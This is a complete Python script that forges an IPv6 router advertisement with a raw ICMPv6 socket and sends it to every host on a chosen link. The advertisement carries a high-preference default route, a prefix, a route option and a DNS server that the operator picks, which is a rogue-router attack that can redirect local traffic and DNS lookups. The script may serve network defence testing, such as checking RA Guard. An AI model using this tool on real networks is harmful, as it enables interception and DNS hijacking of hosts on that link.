#!/usr/bin/python3
"""Send one router advertisement with whatever a hostile router would say.

    ra.py --link LINK --prefix PREFIX --route ROUTE/BITS --dns ADDRESS

RFC 4861 4.2 and 4.6.2, RFC 4191 2.3 (route information), RFC 8106 5.1 (RDNSS). The
kernel fills the checksum in.
"""

import argparse
import socket
import struct

IPV6_MULTICAST_HOPS = 18
LIFE_S = 600


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    for name in ("link", "prefix", "route", "dns"):
        parser.add_argument("--" + name, required=True)
    args = parser.parse_args()
    prefix = socket.inet_pton(socket.AF_INET6, args.prefix)
    network, _, bits = args.route.partition("/")
    route = socket.inet_pton(socket.AF_INET6, network)
    server = socket.inet_pton(socket.AF_INET6, args.dns)
    # Router preference and route preference: high.
    packet = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, LIFE_S, 0, 0)
    packet += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, LIFE_S, LIFE_S, 0) + prefix
    packet += struct.pack("!BBBBI", 24, 3, int(bits), 0x08, LIFE_S) + route
    packet += struct.pack("!BBHI", 25, 3, 0, LIFE_S) + server
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        index = socket.if_nametoindex(args.link)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_MULTICAST_HOPS, 255)
        s.sendto(packet, ("ff02::1", 0, 0, index))


if __name__ == "__main__":
    main()
